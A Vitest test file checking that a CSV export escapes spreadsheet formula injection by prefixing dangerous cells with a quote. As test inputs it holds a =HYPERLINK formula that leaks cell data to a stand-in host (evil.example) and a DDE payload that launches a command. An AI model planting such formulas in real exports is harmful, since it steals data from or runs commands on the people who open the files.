import { describe, expect, it } from 'vitest';
import { newAuditEvent } from '@stepgate/contracts';
import { CSV_COLUMNS, csvCell, csvRow, type ExportedRow } from '../src/index.js';

describe('CSV export against formula injection', () => {
  it("prefixes a cell starting with =, +, -, @, tab or CR with ', and leaves others as they are", () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ['1+1', 'a=b', "'=already", ' =x', '', 'deploy-prod']) expect(csvCell(safe)).toBe(safe);
  });

  it('a =HYPERLINK step id or summary is text to a spreadsheet, the numbers stay numbers', () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"click")';
    const row: ExportedRow = {
      ...newAuditEvent({
        tenant_id: 'acme',
        action: 'GateEvaluated',
        outcome: '@SUM(1+1)*cmd|" /C calc"!A0',
        step_id: hyperlink,
        inputs_summary: '-2+3',
        workflow_id: '\t=1',
        policies_matched: ['=p', 'q'],
      }),
      seq: 7,
      row_hash: 'ab'.repeat(32),
    };
    const cells = csvRow(row);
    const cell = (c: (typeof CSV_COLUMNS)[number]) => cells[CSV_COLUMNS.indexOf(c)];
    expect(cell('step_id')).toBe(`'${hyperlink}`);
    expect(cell('outcome')).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(cell('inputs_summary')).toBe("'-2+3");
    expect(cell('workflow_id')).toBe("'\t=1");
    expect(cell('policies_matched')).toBe("'=p;q");
    expect(cell('tenant_id')).toBe('acme');
    expect(cell('seq')).toBe(7);
    for (const c of cells) expect(String(c)).not.toMatch(/^[=+\-@\t\r]/);
  });
});
